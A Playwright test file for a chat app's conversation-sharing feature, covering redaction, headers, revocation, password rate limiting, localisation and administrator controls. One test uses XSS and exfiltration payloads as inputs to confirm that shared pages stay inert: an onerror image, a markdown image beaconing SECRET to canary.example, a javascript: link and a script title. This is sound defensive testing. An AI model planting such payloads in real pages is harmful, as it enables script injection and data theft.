import type { APIRequestContext, Response } from "@playwright/test";
import { makeAdministrator } from "./support/administrator";
import { expectAccessible } from "./support/axe";
import { makeThread, savedBranch, savedThread, sendQuestion } from "./support/chat";
import { expect, test } from "./support/fixtures";
import { newAccount } from "./support/person";
import { photo } from "./support/pictures";
import { createLink, openShareDialog, share, stranger, uploaded } from "./support/sharing";
import { anotherDevice } from "./support/sign-in";
import { suspend } from "./support/suspend";

/** A conversation of three questions and two pictures, by its API: five messages and one more. */
async function conversation(request: APIRequestContext) {
  const imageIds = [
    await uploaded(request, await photo("SECRET-passport.jpg", 640, 480)),
    await uploaded(request, await photo("SECRET-harbour.jpg", 480, 640)),
  ];
  const threadId = crypto.randomUUID();
  let parentId: string | null = null;
  const said = [
    "What is on these? Write to ada@example.org [[say:A **boat**.\n\n```ts\nconst depth = 11;\n```]]",
    "SECRET question [[say:SECRET answer]]",
    "SECRET end [[say:SECRET last]]",
  ];
  for (const [index, text] of said.entries()) {
    const [messageId, answerId, generationId] = [1, 2, 3].map(() => crypto.randomUUID());
    const images = index === 0 ? imageIds : [];
    const data = { messageId, answerId, generationId, parentId, text, imageIds: images };
    const response = await request.post(`/api/threads/${threadId}/messages`, { data });
    expect(response.status()).toBe(202);
    await expect.poll(async () => (await savedThread(request, threadId)).running).toBe(false);
    parentId = answerId ?? null;
  }
  return { threadId, imageIds };
}

test("56, 58 two messages and one of two pictures are shared, and a stranger gets those and nothing else", async ({
  person,
  watched: page,
  browser,
  server,
}) => {
  const { threadId, imageIds } = await conversation(page.request);
  await page.goto(`/t/${threadId}`);
  const dialog = await openShareDialog(page);
  await dialog.getByRole("textbox", { name: "Title" }).fill("Two boats");
  await dialog.getByRole("button", { name: "None", exact: true }).click();
  await expect(dialog.getByRole("button", { name: "Create link" })).toBeDisabled();
  await dialog.getByRole("checkbox", { name: /^1, You/ }).check();
  await dialog.getByRole("checkbox", { name: /^2, AI/ }).check();
  await dialog.getByRole("checkbox", { name: "Share the picture SECRET-harbour.jpg" }).check();
  await expect(dialog.getByText("1 thing here looks private")).toBeVisible();
  const preview = page.frameLocator('iframe[title="Preview: what others will see"]:not([aria-hidden])');
  await expect(preview.getByText("ada@example.org")).toBeVisible();
  await dialog.getByRole("button", { name: "Black out all" }).click();
  await expect(preview.getByText("█████")).toBeVisible();
  await expect(preview.getByRole("img", { name: "Picture 1" })).toBeVisible();
  await expect(preview.locator("img")).toHaveCount(1);
  await expectAccessible(page);
  const url = await createLink(page);
  expect(url).toMatch(/\/s\/[\w-]{32}$/);

  const visitor = await stranger(browser, server.url);
  const responses: Response[] = [];
  visitor.on("response", (response) => responses.push(response));
  await visitor.goto(url);
  await expect(visitor.getByRole("heading", { level: 1 })).toHaveText("Two boats");
  await expect(visitor.getByText("You are reading a conversation with an AI.")).toBeVisible();
  await expect(visitor.getByText("█████")).toBeVisible();
  await expect(visitor.getByRole("img", { name: "Picture 1" })).toHaveJSProperty("complete", true);
  await expect(visitor.locator("img")).toHaveCount(1);
  await expect(visitor.getByText("boat", { exact: true })).toBeVisible();
  await expect(visitor).toHaveTitle("A shared conversation · Leeward");
  await expectAccessible(visitor);

  const secrets = [
    /SECRET/,
    /ada@example\.org/,
    new RegExp([...imageIds, threadId, person.id, person.email, person.name].join("|")),
    ...(await savedBranch(page.request, threadId)).map(({ id }) => new RegExp(id)),
  ];
  for (const response of responses) {
    const sent = `${response.url()}\n${JSON.stringify(await response.allHeaders())}\n${await response.text()}`;
    for (const secret of secrets) expect(sent).not.toMatch(secret);
    expect(await response.headerValue("set-cookie")).toBeNull();
  }
  const own = responses.filter((response) => new URL(response.url()).pathname.startsWith("/s/"));
  expect(own).toHaveLength(2);
  for (const response of own) {
    expect(await response.headerValue("x-robots-tag")).toContain("noindex");
    expect(await response.headerValue("referrer-policy")).toBe("no-referrer");
    expect(await response.headerValue("cache-control")).toBe("private, no-store");
  }
  const html = (await own[0]?.text()) ?? "";
  expect(html).toContain('<meta name="robots" content="noindex');
  expect(html.match(/property="og:[a-z]+" content="[^"]*Two boats/)).toBeNull();
  const scripts = [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, code = ""]) => code);
  expect(scripts.join("").length).toBeLessThan(10 * 1024);
  expect(html).not.toMatch(/<script[^>]* src=/);

  await visitor.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await visitor.locator(".md-code").getByRole("button", { name: "Copy" }).click();
  await expect(visitor.getByRole("status").filter({ hasText: "Copied" })).toBeAttached();
  expect(await visitor.evaluate(() => navigator.clipboard.readText())).toBe("const depth = 11;");
  await visitor.context().close();
});

test("9, 12, 26, 27 a shared page only reads, is in no cache, and is inert", async ({
  person: _,
  page,
  browser,
  server,
}) => {
  const hostile = `<img src=x onerror=alert(1)> ![x](https://canary.example/?d=SECRET) [go](javascript:alert(1)) <style>*{background:url(https://canary.example)}</style>`;
  const { threadId } = await sendQuestion(page.request, `${hostile} [[say:${hostile}]]`);
  await expect.poll(async () => (await savedThread(page.request, threadId)).running).toBe(false);
  const { path, id } = await share(page.request, threadId, {
    title: "<script>alert(1)</script>",
    titleInPreview: true,
  });
  const visitor = await stranger(browser, server.url);
  const foreign: string[] = [];
  visitor.on("request", (request) => !request.url().startsWith(server.url) && foreign.push(request.url()));
  visitor.on("dialog", () => foreign.push("a dialog"));
  await visitor.goto(path);
  await expect(visitor.getByRole("heading", { level: 1 })).toHaveText("<script>alert(1)</script>");
  // Its owner wants the title where the link is shown as a card.
  await expect(visitor).toHaveTitle("<script>alert(1)</script> · Leeward");
  const card = visitor.locator('meta[property="og:title"]');
  await expect(card).toHaveAttribute("content", "<script>alert(1)</script>");
  expect(await visitor.locator("main img, main style, main script, a[href^=javascript]").count()).toBe(0);
  expect(foreign).toEqual([]);

  const { request } = visitor;
  for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
    const answers = await Promise.all(
      [path, `${path}/images/${crypto.randomUUID()}`, `/api${path}/threads`, `/api/shares/${id}`].map((url) =>
        request.fetch(url, { method, data: {} }),
      ),
    );
    for (const answer of answers) expect([400, 401, 403, 404, 405]).toContain(answer.status());
  }
  const variants: [string, Record<string, string>][] = [
    [path, {}],
    [path, { rsc: "1", "next-router-prefetch": "1" }],
    [path, { "x-nextjs-data": "1" }],
    [`${path}.rsc`, {}],
    [`${path}?_rsc=1`, { rsc: "1" }],
    [`/s/${"x".repeat(32)}`, {}],
    [`${path}/images/${crypto.randomUUID()}`, {}],
    [`/_next/data/any${path}.json`, {}],
  ];
  for (const [url, headers] of variants) {
    const answer = await request.get(url, { headers, maxRedirects: 0 });
    expect(`${url}: ${answer.headers()["cache-control"]}`).toContain("no-store");
  }
  await visitor.context().close();
});

test("what is taken back is gone while its page still loads, and so is what ends, for everybody", async ({
  person,
  page,
  browser,
  server,
}) => {
  const { threadId } = await conversation(page.request);
  const choices = { messages: [1], pictures: ["1.0", "1.1"], redactions: [], name: false, dates: false };
  const first = await share(page.request, threadId, { choices });
  const visitor = await stranger(browser, server.url);
  const held = Promise.withResolvers<void>();
  await visitor.route(/\/images\//, async (route) => {
    await held.promise;
    await route.continue();
  });
  const statuses: number[] = [];
  visitor.on(
    "response",
    (response) => response.url().includes("/images/") && statuses.push(response.status()),
  );
  await visitor.goto(first.path, { waitUntil: "domcontentloaded" });
  await expect(visitor.getByRole("img", { name: "Picture 2" })).toBeAttached();

  await page.goto("/shares");
  await page
    .getByRole("listitem")
    .filter({ hasText: "A shared talk" })
    .getByRole("button", { name: "Revoke" })
    .click();
  await page.getByRole("dialog").getByRole("button", { name: "Revoke" }).click();
  await expect(page.getByText("You have shared nothing.", { exact: false })).toBeVisible();
  held.resolve();
  await expect.poll(() => statuses).toEqual([404, 404]);
  expect((await visitor.reload())?.status()).toBe(404);
  await expect(visitor.getByRole("heading", { name: "This link leads nowhere" })).toBeVisible();

  const soon = await share(page.request, threadId, { expiresAt: new Date(Date.now() + 4_000).toISOString() });
  await expect.poll(async () => (await visitor.request.get(soon.path)).status()).toBe(404);

  const last = await share(page.request, threadId);
  expect((await visitor.request.get(last.path)).status()).toBe(200);
  suspend(server.data, person.id);
  expect((await visitor.request.get(last.path)).status()).toBe(404);
  await visitor.context().close();
});

test("a password keeps guesses out, without a script too", async ({ person: _, page, browser, server }) => {
  const { threadId } = await sendQuestion(page.request, "Behind a door [[say:Well hidden.]]");
  await expect.poll(async () => (await savedThread(page.request, threadId)).running).toBe(false);
  const { path } = await share(page.request, threadId, { password: "herring boat" });
  const context = await browser.newContext({
    baseURL: server.url,
    javaScriptEnabled: false,
    locale: "en-GB",
  });
  const visitor = await context.newPage();
  await visitor.goto(path);
  expect(await visitor.content()).not.toContain("Well hidden");
  const password = visitor.getByRole("textbox", { name: "Password" });
  await password.fill("herring");
  await visitor.getByRole("button", { name: "Open" }).click();
  await expect(visitor.getByRole("alert")).toHaveText("That is not the password. Try again.");
  await password.fill("herring boat");
  await visitor.getByRole("button", { name: "Open" }).click();
  await expect(visitor.getByText("Well hidden.", { exact: true })).toBeVisible();
  const cookies = await context.cookies(`${server.url}${path}`);
  expect(cookies).toMatchObject([{ path, httpOnly: true, sameSite: "Lax" }]);

  const guesser = await stranger(browser, server.url);
  const guess = async (password: string) => {
    const answer = await guesser.request.post(`/api${path}/access`, { form: { password }, maxRedirects: 0 });
    return answer.headers().location ?? "";
  };
  for (let tries = 0; tries < 10; tries++) expect(await guess(`guess ${tries}`)).toContain("trouble=wrong");
  // The right one comes too late.
  const refused = await guess("herring boat");
  expect(refused).toMatch(/trouble=\d+$/);
  await guesser.goto(refused);
  await expect(guesser.getByRole("alert")).toContainText("Too many tries.");
  await Promise.all([context.close(), guesser.context().close()]);
});

test("whoever gives the password of a link that has changed meanwhile sees what is there now", async ({
  person: _,
  page,
  browser,
  server,
}) => {
  const threadId = await makeThread(page.request, "Behind a door [[say:Well hidden.]]");
  const { id, path } = await share(page.request, threadId, { password: "herring boat" });
  const context = await browser.newContext({
    baseURL: server.url,
    javaScriptEnabled: false,
    locale: "en-GB",
  });
  const [visitor, late] = [await context.newPage(), await context.newPage()];
  for (const each of [visitor, late]) {
    await each.goto(path);
    await each.getByRole("textbox", { name: "Password" }).fill("herring boat");
  }
  const choices = { messages: [1, 2], pictures: [], redactions: [], name: false, dates: false };
  const opened = await page.request.put(`/api/shares/${id}`, {
    data: {
      title: "No door",
      choices,
      expiresAt: new Date(Date.now() + 86_400_000).toISOString(),
      allowContinue: false,
      titleInPreview: false,
      password: null,
    },
  });
  expect(opened.status()).toBe(200);
  await visitor.getByRole("button", { name: "Open" }).click();
  await expect(visitor.getByText("Well hidden.", { exact: true })).toBeVisible();
  expect((await page.request.delete(`/api/shares/${id}`)).status()).toBe(204);
  await late.getByRole("button", { name: "Open" }).click();
  await expect(late.getByRole("heading", { name: "This link leads nowhere" })).toBeVisible();
  await context.close();
});

test("a reader signs in and continues it as their own, pictures included", async ({
  person: _,
  page,
  browser,
  server,
}) => {
  const { threadId } = await conversation(page.request);
  const choices = { messages: [1, 2], pictures: ["1.1"], redactions: [], name: true, dates: true };
  const { path } = await share(page.request, threadId, { choices, allowContinue: true });
  const reader = await stranger(browser, server.url);
  const account = await newAccount(server.url, "Eve Berg");
  await reader.goto(path);
  await expect(reader.getByText("Shared by Ada Lund.")).toBeVisible();
  await reader.getByRole("link", { name: "Continue as my own" }).click();
  await reader.getByRole("textbox", { name: "E-mail" }).fill(account.email);
  await reader.getByRole("textbox", { name: "Password", exact: true }).fill(account.password);
  await reader.getByRole("button", { name: "Sign in", exact: true }).click();
  await reader.getByRole("button", { name: "Make my copy" }).click();
  await expect(reader).toHaveURL(/\/t\/[0-9a-f-]{36}$/);
  await expect(reader.getByText("const depth = 11;", { exact: true })).toBeVisible();
  await expect(reader.getByRole("button", { name: /^Show picture.* in full/ })).toBeVisible();
  await reader.context().close();
});

test("it is read in German, and printed without what cannot be pressed on paper", async ({
  person: _,
  page,
  browser,
  server,
}) => {
  const { threadId } = await sendQuestion(
    page.request,
    "Wie tief? [[say:Elf Meter.\n\n```ts\nconst depth = 11;\n```]]",
  );
  await expect.poll(async () => (await savedThread(page.request, threadId)).running).toBe(false);
  const { path } = await share(page.request, threadId, { allowContinue: true });
  const visitor = await stranger(browser, server.url, "de-AT");
  await visitor.goto(path);
  await expect(visitor.locator("html")).toHaveAttribute("lang", "de");
  await expect(visitor.getByText("Sie lesen ein Gespräch mit einer KI.")).toBeVisible();
  await expect(visitor.getByRole("button", { name: "Drucken" })).toBeVisible();
  await visitor.emulateMedia({ media: "print", colorScheme: "dark" });
  await expect(visitor.getByRole("button")).toHaveCount(0);
  await expect(visitor.getByRole("link")).toHaveCount(0);
  await expect(visitor.getByText("Elf Meter.", { exact: true })).toBeVisible();
  const background = await visitor.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  expect(background).toBe("rgb(255, 255, 255)");
  await visitor.context().close();
});

test("an administrator sets the rules, sees whose shares there are, and revokes one without reading it", async ({
  browser,
  server,
}) => {
  const chief = await newAccount(server.url, "Chief");
  const member = await newAccount(server.url, "Ada Lund");
  makeAdministrator(server.data, chief.id);
  const [own, admin] = await Promise.all([
    anotherDevice(browser, server.url, member),
    anotherDevice(browser, server.url, chief),
  ]);
  const { threadId } = await sendQuestion(own.request, "SECRET [[say:SECRET]]");
  await expect.poll(async () => (await savedThread(own.request, threadId)).running).toBe(false);
  const { path } = await share(own.request, threadId, { title: "SECRET title" });
  expect((await own.request.get("/api/admin/shares")).status()).toBe(404);
  const page = await admin.newPage();
  await page.goto("/admin/shares");
  const row = page.getByRole("listitem").filter({ hasText: member.email });
  await expect(row).toContainText("2 messages");
  expect(await page.content()).not.toContain("SECRET");
  expect(await page.content()).not.toContain(path);
  await row.getByRole("button", { name: "Revoke a link of Ada Lund" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Revoke" }).click();
  await expect(row).toHaveCount(0);
  expect((await own.request.get(path)).status()).toBe(404);
  await Promise.all([own.close(), admin.close()]);
});
